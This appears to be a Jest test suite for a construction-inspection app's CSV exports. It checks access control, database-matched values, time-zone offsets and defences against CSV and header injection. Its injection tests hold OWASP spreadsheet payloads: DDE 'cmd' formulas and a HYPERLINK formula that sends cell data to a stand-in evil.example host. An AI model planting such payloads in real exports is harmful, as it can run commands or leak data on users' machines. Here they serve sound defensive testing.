/**
 * CSV exports: findings.csv (columns and values of the demo job's findings checked against
 * their database rows by an independent query; the list's filters give the list's rows; a
 * subcontractor gets only their company's rows), cells safe against CSV injection (OWASP
 * vectors in hostile notes, company names, unit tags and user names, parsed back with
 * csv-parse; a property test), numbers staying numbers, BOM and headers, 400 / 401 / 403 / 404.
 */
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { QueryTypes } from 'sequelize';
import type { TrimoutApp } from '../../../server/app';
import type { Database } from '../../../server/db';
import { Company, Finding, Fix, Job, Level, Unit, User } from '../../../server/models';
import { DEMO_ACCOUNTS, DEMO_PASSWORD, seedDemo } from '../../../server/seed/demo';
import { csvFileName, csvStringifier, FORMULA_START, neutraliseCell } from '../../../server/services/csvSafe';
import { FINDINGS_CSV_HEADER } from '../../../server/services/csvFindings';
import { buildTestApp, signIn, type SignedIn } from '../../support/app';
import { connectTestDb } from '../../support/db';
import { buildUser } from '../../support/factories';
import { recordFindingEvent } from '../../../server/services/findings';
import { buildWalkJob, insertFinding, type WalkJob } from '../../support/findings';

jest.setTimeout(180_000);

let db: Database;
let trimout: TrimoutApp;
let demoJob: Job;
let demoGc: SignedIn;
let demoMech: SignedIn;
let demoInspector: SignedIn;
let w: WalkJob;
let gc: SignedIn;
let subA: SignedIn;
let outsider: SignedIn;

const demoEmail = (company: string) => DEMO_ACCOUNTS.find((a) => a.email.startsWith(`${company}@`) || a.email.startsWith(`${company}.`))!.email;

beforeAll(async () => {
  db = await connectTestDb();
  trimout = buildTestApp(db);
  await seedDemo(db);
  demoJob = (await Job.findOne({ where: { name: 'Cinder Lane Commons' } }))!;
  demoGc = await signIn(trimout.app, demoEmail('gc'), DEMO_PASSWORD);
  demoMech = await signIn(trimout.app, demoEmail('mechanical'), DEMO_PASSWORD);
  demoInspector = await signIn(trimout.app, demoEmail('inspector'), DEMO_PASSWORD);
  w = await buildWalkJob();
  gc = await signIn(trimout.app, w.gcManager.email);
  subA = await signIn(trimout.app, w.subA.email);
  outsider = await signIn(trimout.app, (await buildUser()).email);
});
afterAll(async () => {
  await trimout.close();
  await db.close();
});

type Row = Record<(typeof FINDINGS_CSV_HEADER)[number], string>;

/** The CSV parsed back (csv-parse, BOM stripped) into header-keyed rows. */
function rowsOf(text: string): Row[] {
  const records = parse(text, { bom: true, relax_quotes: false }) as string[][];
  expect(records[0]).toEqual([...FINDINGS_CSV_HEADER]);
  return records.slice(1).map((r) => Object.fromEntries(FINDINGS_CSV_HEADER.map((h, i) => [h, r[i]!])) as Row);
}

function csv(who: SignedIn, jobId: string, query = '') {
  return who.agent.get(`/api/jobs/${jobId}/findings.csv${query ? `?${query}` : ''}`).buffer(true).parse((res, cb) => {
    let text = '';
    res.setEncoding('utf8');
    res.on('data', (c: string) => (text += c));
    res.on('end', () => cb(null, text));
  });
}

/** Every id the list endpoint gives for a query, following its cursor. */
async function listIds(who: SignedIn, jobId: string, query: string): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const res = await who.agent.get(`/api/jobs/${jobId}/findings?${query}${query ? '&' : ''}limit=200${cursor ? `&cursor=${cursor}` : ''}`);
    expect(res.status).toBe(200);
    ids.push(...(res.body.items as { id: string }[]).map((f) => f.id));
    cursor = res.body.nextCursor as string | null;
  } while (cursor);
  return ids;
}

/** Calendar day of an instant in a time zone, by Intl (not by the code under test). */
function dayIn(at: Date, timeZone: string): string {
  return new Intl.DateTimeFormat('en-CA', { timeZone, year: 'numeric', month: '2-digit', day: '2-digit' }).format(at);
}
const daysBetween = (a: string, b: string) => Math.round((Date.parse(`${b}T00:00:00Z`) - Date.parse(`${a}T00:00:00Z`)) / 86_400_000);
/**
 * An instant as ISO 8601 on a time zone's clock with its offset, by Intl (ECMA-402
 * Intl.DateTimeFormat, timeZoneName 'longOffset': "GMT-06:00", "GMT" for UTC; the runtime's ICU
 * time-zone data), not by the export's SQL (PostgreSQL's own time-zone data).
 */
function isoIn(d: Date, timeZone: string): string {
  const parts = new Intl.DateTimeFormat('en-CA', {
    timeZone,
    year: 'numeric',
    month: '2-digit',
    day: '2-digit',
    hour: '2-digit',
    minute: '2-digit',
    second: '2-digit',
    hourCycle: 'h23',
    timeZoneName: 'longOffset',
  }).formatToParts(d);
  const get = (t: string) => parts.find((p) => p.type === t)!.value;
  const gmt = get('timeZoneName');
  const offset = gmt === 'GMT' ? '+00:00' : gmt.slice(3);
  return `${get('year')}-${get('month')}-${get('day')}T${get('hour')}:${get('minute')}:${get('second')}${offset}`;
}

describe('findings.csv: access', () => {
  it('answers 401 signed out, 404 to a non-member and for an unknown job, 400 for a bad filter', async () => {
    await request(trimout.app).get(`/api/jobs/${w.job.id}/findings.csv`).expect(401);
    await request(trimout.app).get(`/api/jobs/${w.job.id}/scorecards.csv`).expect(401);
    expect((await outsider.agent.get(`/api/jobs/${w.job.id}/findings.csv`)).status).toBe(404);
    expect((await gc.agent.get(`/api/jobs/00000000-0000-4000-8000-000000000000/findings.csv`)).status).toBe(404);
    const bad = await gc.agent.get(`/api/jobs/${w.job.id}/findings.csv?kind=window_unit`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toBe('query.kind: Choose a unit kind from the list.');
    expect((await gc.agent.get(`/api/jobs/${w.job.id}/findings.csv?evil=1`)).status).toBe(400);
  });

  it('answers 403 to a subcontractor for scorecards.csv', async () => {
    const res = await subA.agent.get(`/api/jobs/${w.job.id}/scorecards.csv`);
    expect(res.status).toBe(403);
  });
});

describe('findings.csv: the demo job', () => {
  it('has a BOM, a header row, the download headers, and one row per finding with its database values', async () => {
    const res = await csv(demoGc, demoJob.id);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="findings-Cinder_Lane_Commons-\d{4}-\d{2}-\d{2}\.csv"$/);
    const text = res.body as string;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = rowsOf(text);

    // An independent reading of the same findings: models and plain SQL, not the export's query.
    const findings = await Finding.findAll({ where: { jobId: demoJob.id }, order: [['number', 'DESC']] });
    expect(rows.map((r) => r['Finding id'])).toEqual(findings.map((f) => f.id)); // default sort: newest first
    const users = new Map((await User.findAll()).map((u) => [u.id, u.name]));
    const companies = new Map((await Company.findAll()).map((c) => [c.id, c.name]));
    const levels = new Map((await Level.findAll({ where: { jobId: demoJob.id } })).map((l) => [l.id, l.name]));
    const units = new Map((await Unit.findAll({ where: { jobId: demoJob.id } })).map((u) => [u.id, u]));
    const fixes = await Fix.findAll({ where: { jobId: demoJob.id } });
    const verdicts = await db.sequelize.query<{ finding_id: string; actor_id: string; at: Date; kind: string; reason: string | null }>(
      `SELECT finding_id, actor_id, at, kind, reason FROM finding_events WHERE job_id = $1 AND kind IN ('accepted', 'returned', 'closed_on_walk') ORDER BY at, id`,
      { bind: [demoJob.id], type: QueryTypes.SELECT },
    );
    const today = dayIn(new Date(), demoJob.timeZone);
    const checked = { returned: 0, accepted: 0, open: 0, withFix: 0 };
    for (const [i, f] of findings.entries()) {
      const r = rows[i]!;
      expect(r.Finding).toBe(`#${f.number}`);
      expect(r.Link).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:\\d+/jobs/${demoJob.id}/findings/${f.id}$`));
      expect(r.Level).toBe(levels.get(f.levelId));
      expect(r['Unit tag']).toBe(f.unitId ? units.get(f.unitId)!.tag : '');
      expect(r.Company).toBe(companies.get(f.companyId));
      expect(r['Logged by']).toBe(users.get(f.loggedBy));
      expect(r['Logged at']).toBe(isoIn(f.loggedAt, demoJob.timeZone));
      expect(r['Due on']).toBe(f.dueOn);
      expect(r.Returns).toBe(String(f.returnCount));
      expect(r.Status).toBe(({ open: 'Open', fix_submitted: 'Fix submitted', closed: 'Closed', voided: 'Voided' } as Record<string, string>)[f.status]);
      expect(r.Severity.toLowerCase()).toBe(f.severity);
      expect(r.Note).toBe(f.note);
      // Overdue: open (new or returned) and past due; a fix waiting for re-inspection is not.
      expect(r.Overdue).toBe(f.status === 'open' && f.dueOn < today ? 'yes' : 'no');
      const myFixes = fixes.filter((x) => x.findingId === f.id).map((x) => x.submittedAt.getTime());
      expect(r['Last fix submitted']).toBe(myFixes.length ? isoIn(new Date(Math.max(...myFixes)), demoJob.timeZone) : '');
      const verdict = verdicts.filter((v) => v.finding_id === f.id).at(-1);
      expect(r['Re-inspected by']).toBe(verdict ? users.get(verdict.actor_id) : '');
      const lastReturn = verdicts.filter((v) => v.finding_id === f.id && v.kind === 'returned').at(-1);
      expect(r['Latest return reason']).toBe(lastReturn?.reason ?? '');
      expect(r['Re-inspected at']).toBe(verdict ? isoIn(new Date(verdict.at), demoJob.timeZone) : '');
      if (f.status === 'open' || f.status === 'fix_submitted') {
        expect(r['Days open']).toBe(String(daysBetween(dayIn(f.loggedAt, demoJob.timeZone), today)));
        checked.open += 1;
      }
      if (f.returnCount > 0) checked.returned += 1;
      if (verdict?.kind === 'accepted') checked.accepted += 1;
      if (myFixes.length) checked.withFix += 1;
    }
    // The demo has findings of each kind, so every branch above was exercised.
    expect(Math.min(checked.returned, checked.accepted, checked.open, checked.withFix)).toBeGreaterThan(0);
  });

  it('writes the same rows as the list for the same query, in the same order', async () => {
    const level = await Level.findOne({ where: { jobId: demoJob.id }, order: [['position', 'ASC']] });
    const mech = (await User.findOne({ where: { email: demoEmail('mechanical') } }))!;
    const queries = [
      'status=open,fix_submitted',
      'severity=critical,major&sort=dueOn',
      `levelId=${level!.id}&sort=-severity`,
      'overdue=true',
      `companyId=${mech.companyId}&sort=loggedAt`,
      'q=drain',
    ];
    let nonEmpty = 0;
    for (const q of queries) {
      const expected = await listIds(demoInspector, demoJob.id, q);
      const res = await csv(demoInspector, demoJob.id, q);
      expect(res.status).toBe(200);
      expect({ q, ids: rowsOf(res.body as string).map((r) => r['Finding id']) }).toEqual({ q, ids: expected });
      if (expected.length > 0) nonEmpty += 1;
    }
    expect(nonEmpty).toBeGreaterThanOrEqual(4);
  });

  it("gives a subcontractor only their own company's findings, whatever the filter", async () => {
    const me = (await User.findOne({ where: { email: demoEmail('mechanical') } }))!;
    const myCompany = (await Company.findByPk(me.companyId))!;
    const [count] = await db.sequelize.query<{ n: string }>(`SELECT count(*) AS n FROM findings WHERE job_id = $1 AND company_id = $2`, {
      bind: [demoJob.id, me.companyId],
      type: QueryTypes.SELECT,
    });
    const rows = rowsOf((await csv(demoMech, demoJob.id)).body as string);
    expect(rows.length).toBe(Number(count!.n));
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((r) => r.Company))).toEqual(new Set([myCompany.name]));
    // Asking for another company's findings gives none, not theirs.
    const other = await db.sequelize.query<{ company_id: string }>(
      `SELECT DISTINCT company_id FROM findings WHERE job_id = $1 AND company_id <> $2`,
      { bind: [demoJob.id, me.companyId], type: QueryTypes.SELECT },
    );
    expect(other.length).toBeGreaterThan(0);
    const theirs = await csv(demoMech, demoJob.id, `companyId=${other[0]!.company_id}`);
    expect(rowsOf(theirs.body as string)).toEqual([]);
  });
});

describe("findings.csv: times on the job's clock", () => {
  it('writes instants with the offset in force at each one, across the end of daylight saving, and the latest return reason', async () => {
    const chicago = await buildWalkJob(w);
    await Job.update({ timeZone: 'America/Chicago' }, { where: { id: chicago.job.id } });
    // US daylight saving ends at 02:00 CDT on Sunday 1 November 2026 (07:00 UTC): the clock reads
    // 01:30 twice, first at -05:00 (CDT), then at -06:00 (CST) (US Code 15 USC 260a).
    const beforeEnd = new Date('2026-11-01T06:30:00Z');
    const afterEnd = new Date('2026-11-01T07:30:00Z');
    const a = await insertFinding(chicago, { loggedAt: beforeEnd, note: 'before' });
    const b = await insertFinding(chicago, { loggedAt: afterEnd, note: 'after', status: 'open' });
    await Finding.update({ returnCount: 2 }, { where: { id: b.id } });
    await db.sequelize.transaction(async (transaction) => {
      for (const [at, reason] of [
        ['2026-11-05T15:00:00Z', 'Drain still holds water at the trap.'],
        ['2026-11-09T16:00:00Z', 'Strap missing at the second hanger.'],
      ] as const) {
        await recordFindingEvent({ findingId: b.id, jobId: chicago.job.id, actorId: chicago.inspector.id, kind: 'returned', from: { status: 'fix_submitted' }, to: { status: 'open' }, reason, at: new Date(at) }, transaction);
      }
    });
    const rows = rowsOf((await csv(gc, chicago.job.id, 'sort=loggedAt')).body as string);
    expect(rows.map((r) => r['Finding id'])).toEqual([a.id, b.id]);
    // The reference (Intl) and the literal agree, and so must the file.
    expect(isoIn(beforeEnd, 'America/Chicago')).toBe('2026-11-01T01:30:00-05:00');
    expect(isoIn(afterEnd, 'America/Chicago')).toBe('2026-11-01T01:30:00-06:00');
    expect(rows[0]!['Logged at']).toBe('2026-11-01T01:30:00-05:00');
    expect(rows[1]!['Logged at']).toBe('2026-11-01T01:30:00-06:00');
    expect(rows[1]!['Re-inspected at']).toBe(isoIn(new Date('2026-11-09T16:00:00Z'), 'America/Chicago'));
    expect(rows[1]!['Re-inspected at']).toBe('2026-11-09T10:00:00-06:00');
    expect(rows[0]!['Latest return reason']).toBe('');
    expect(rows[1]!.Returns).toBe('2');
    expect(rows[1]!['Latest return reason']).toBe('Strap missing at the second hanger.');
    // A job on UTC says +00:00; a zone east of UTC with a half-hour offset keeps its minutes.
    await Job.update({ timeZone: 'Asia/Kolkata' }, { where: { id: chicago.job.id } });
    const kolkata = rowsOf((await csv(gc, chicago.job.id, 'sort=loggedAt')).body as string);
    expect(kolkata[0]!['Logged at']).toBe('2026-11-01T12:00:00+05:30');
    expect(kolkata[0]!['Logged at']).toBe(isoIn(beforeEnd, 'Asia/Kolkata'));
    await Job.update({ timeZone: 'UTC' }, { where: { id: chicago.job.id } });
    const utc = rowsOf((await csv(gc, chicago.job.id, 'sort=loggedAt')).body as string);
    expect(utc[0]!['Logged at']).toBe('2026-11-01T06:30:00+00:00');
  });
});

describe('scorecards.csv and units.csv', () => {
  it('gives the GC manager and the inspector the scorecards as the board shows them', async () => {
    for (const who of [demoGc, demoInspector]) {
      const res = await who.agent.get(`/api/jobs/${demoJob.id}/scorecards.csv`).buffer(true);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['cache-control']).toBe('no-store');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="scorecards-Cinder_Lane_Commons-\d{4}-\d{2}-\d{2}\.csv"$/);
      expect(res.text.charCodeAt(0)).toBe(0xfeff);
      const records = parse(res.text, { bom: true }) as string[][];
      expect(records[0]).toEqual(['Company', 'Trades', 'Open', 'Overdue', 'Fixes waiting', 'Accepted', 'Accepted first pass', 'First-pass rate', 'Median days to accept', 'Returns']);
      const json = await who.agent.get(`/api/jobs/${demoJob.id}/scorecards`);
      expect(json.status).toBe(200);
      const companies = json.body.companies as { name: string; open: number; overdue: number; fixesWaiting: number; accepted: number; acceptedFirstPass: number; firstPassRate: number | null; medianDaysToAccept: number | null; returns: number }[];
      expect(records.slice(1).map((r) => [r[0], ...r.slice(2).map((v) => (v === '' ? null : Number(v)))])).toEqual(
        companies.map((c) => [c.name, c.open, c.overdue, c.fixesWaiting, c.accepted, c.acceptedFirstPass, c.firstPassRate === null ? null : Math.round(c.firstPassRate * 10_000) / 10_000, c.medianDaysToAccept, c.returns]),
      );
      // The demo's open findings are all counted (voided never are).
      const [open] = await db.sequelize.query<{ n: string }>(`SELECT count(*) AS n FROM findings WHERE job_id = $1 AND status = 'open'`, { bind: [demoJob.id], type: QueryTypes.SELECT });
      expect(records.slice(1).reduce((sum, r) => sum + Number(r[2]), 0)).toBe(Number(open!.n));
    }
    expect((await demoMech.agent.get(`/api/jobs/${demoJob.id}/scorecards.csv`)).status).toBe(403);
    expect((await demoGc.agent.get(`/api/jobs/${demoJob.id}/scorecards.csv?x=1`)).status).toBe(400);
  });

  it('units.csv takes the register filters and neutralises a hostile tag', async () => {
    const job = await buildWalkJob({ gcCompany: w.gcCompany, gcManager: w.gcManager, inspector: w.inspector, subA: w.subA, subB: w.subB });
    await Unit.update({ tag: '=1+2' }, { where: { id: job.wall.id } });
    const all = await gc.agent.get(`/api/jobs/${job.job.id}/units.csv`).buffer(true);
    expect(all.status).toBe(200);
    const tags = (parse(all.text, { bom: true }) as string[][]).slice(1).map((r) => r[0]);
    expect(tags).toEqual(["'=1+2", 'IU-3-01', 'IU-3-02', 'IU-4-01']);
    const upstairs = await gc.agent.get(`/api/jobs/${job.job.id}/units.csv?levelId=${job.otherLevel.id}`).buffer(true);
    expect((parse(upstairs.text, { bom: true }) as string[][]).slice(1).map((r) => r[0])).toEqual(['IU-4-01']);
    expect((await gc.agent.get(`/api/jobs/${job.job.id}/units.csv?kind=window_unit`)).status).toBe(400);
  });
});

describe('CSV cells are safe to open (OWASP CSV Injection)', () => {
  // The OWASP CSV Injection page's example payloads and the start characters it and ASVS 5.0
  // V1.2.10 list (= + - @ tab CR, plus LF and NUL), and the full-width forms.
  const VECTORS = [
    `=HYPERLINK("http://evil.example?x="&A1,"Click")`,
    `=cmd|' /C calc'!A0`,
    `+SUM(1+1)*cmd|' /C calc'!A0`,
    `-2+3+cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `\t=1+1`,
    `\r=1+1`,
    `\n=1+1`,
    `\0=1+1`,
    `\uFF1D1+1`,
    `-1`,
  ];

  it.each(VECTORS)('neutralises %j with a leading quote', (v) => {
    expect(neutraliseCell(v)).toBe(`'${v}`);
  });

  it('leaves ordinary text alone', () => {
    for (const v of ['Drain not sloped', '', 'IU-3-01', "'quoted already", ' =leading space', '3 in', 'Level 3 = mezzanine']) {
      expect(neutraliseCell(v)).toBe(v);
    }
  });

  it('any row of strings and numbers parses back to the neutralised strings and the numbers (property)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.string(), fc.constantFrom(...VECTORS), fc.integer({ min: -1e6, max: 1e6 }), fc.double({ noNaN: true, noDefaultInfinity: true })), {
          minLength: 1,
          maxLength: 8,
        }),
        async (cells) => {
          const out = csvStringifier();
          let text = '';
          out.on('data', (c: Buffer | string) => (text += c.toString()));
          const done = new Promise((resolve) => out.on('end', resolve));
          out.write(cells);
          out.end();
          await done;
          const [back] = parse(text, { bom: true }) as string[][];
          expect(back).toHaveLength(cells.length);
          cells.forEach((c, i) => {
            if (typeof c === 'number') expect(Number(back![i])).toBe(c === 0 ? 0 : c);
            else {
              expect(back![i]).toBe(neutraliseCell(c));
              expect(FORMULA_START.test(back![i]!)).toBe(false);
            }
          });
        },
      ),
      { numRuns: 300 },
    );
  });

  it('neutralises hostile notes, company names, unit tags, level names and user names in findings.csv; numbers stay numbers', async () => {
    const job = await buildWalkJob({ gcCompany: w.gcCompany, gcManager: w.gcManager, inspector: w.inspector, subA: w.subA, subB: w.subB });
    const hostile = {
      note: `=HYPERLINK("http://evil.example","Click")`,
      company: `+cmd|' /C calc'!A0`,
      tag: `-2+3+cmd|' /C calc'!A0`,
      level: `@SUM(1+1)`,
      inspector: `\t=1+1`,
    };
    await Job.update({ name: `Tower "A"\r\nX-Evil: 1 / ünïcode` }, { where: { id: job.job.id } });
    await Company.update({ name: hostile.company }, { where: { id: w.subA.companyId } });
    const inspectorName = w.inspector.name;
    const companyName = (await Company.findByPk(w.subA.companyId))!.name;
    await User.update({ name: hostile.inspector }, { where: { id: w.inspector.id } });
    await Unit.update({ tag: hostile.tag }, { where: { id: job.cassette.id } });
    await Level.update({ name: hostile.level }, { where: { id: job.level.id } });
    try {
      await insertFinding(job, { note: hostile.note });
      // Logged "tomorrow" (a clock ahead of the server's): days open is -1, a negative NUMBER.
      await insertFinding(job, { note: `\n=1+1`, loggedAt: new Date(Date.now() + 24 * 3600 * 1000), status: 'closed', unitId: null });
      const res = await csv(gc, job.job.id, 'sort=number');
      expect(res.status).toBe(200);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="findings-Tower_A_X-Evil_1_unicode-\d{4}-\d{2}-\d{2}\.csv"$/);
      const text = res.body as string;
      const rows = rowsOf(text);
      expect(rows).toHaveLength(2);
      const [first, second] = rows as [Row, Row];
      expect(first.Note).toBe(`'${hostile.note}`);
      expect(first.Company).toBe(`'${hostile.company}`);
      expect(first['Unit tag']).toBe(`'${hostile.tag}`);
      expect(first.Level).toBe(`'${hostile.level}`);
      expect(first['Logged by']).toBe(`'${hostile.inspector}`);
      expect(second.Note).toBe(`'\n=1+1`);
      // No text cell starts a formula; the one "-" start is the number -1 (Days open), bare in the bytes below.
      for (const row of rows) {
        for (const [column, cell] of Object.entries(row)) if (!(column === 'Days open' && cell === '-1')) expect(FORMULA_START.test(cell)).toBe(false);
      }
      // Raw bytes: every text cell quoted; numbers bare, a negative one not prefixed.
      const raw = text.slice(1).split('\r\n');
      expect(raw[0]!.startsWith('"Finding","Finding id","Link"')).toBe(true);
      expect(raw[1]).toContain(`"'=HYPERLINK(""http://evil.example"",""Click"")"`);
      expect(second['Days open']).toBe('-1');
      expect(text).toMatch(/,-1,"no",/); // Days open -1 unquoted, Overdue a quoted word
    } finally {
      await User.update({ name: inspectorName }, { where: { id: w.inspector.id } });
      await Company.update({ name: companyName }, { where: { id: w.subA.companyId } });
    }
  });

  it('makes a file name safe from any job name', () => {
    expect(csvFileName('findings', 'Tower "A"\r\nSet-Cookie: x', '2026-12-01')).toBe('findings-Tower_A_Set-Cookie_x-2026-12-01.csv');
    expect(csvFileName('findings', '«»', '2026-12-01')).toBe('findings-job-2026-12-01.csv');
    expect(csvFileName('units', null, '2026-12-01')).toBe('units-job-2026-12-01.csv');
  });
});
